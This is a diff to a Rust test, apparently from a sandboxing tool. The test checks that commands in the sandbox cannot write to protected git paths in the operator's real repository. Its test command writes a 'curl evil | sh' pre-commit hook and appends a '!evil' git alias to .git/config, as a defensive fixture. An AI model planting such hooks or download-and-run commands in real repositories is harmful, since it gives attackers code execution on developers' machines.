@@ -851,11 +851,13 @@ fn commands_cannot_write_protected_git_paths() {
         &[
             "sh",
             "-c",
-            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; \
-             echo ok > allowed.txt",
+            "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; \
+             echo '[alias] x = !evil' >> .git/config; echo ok > allowed.txt",
         ],
     );
-    assert!(run.stderr.contains("Read-only file system"), "{run:?}");
+    // The call's `.git` is the git shadow (crate::git): its writes may succeed there, and
+    // never reach the operator's gitdir, which the view does not show writable at all.
+    assert!(run.status.success(), "{run:?}");
     assert!(!sb.ws().join(".git/hooks/pre-commit").exists());
     assert_eq!(
         std::fs::read_to_string(sb.ws().join(".git/config")).unwrap(),
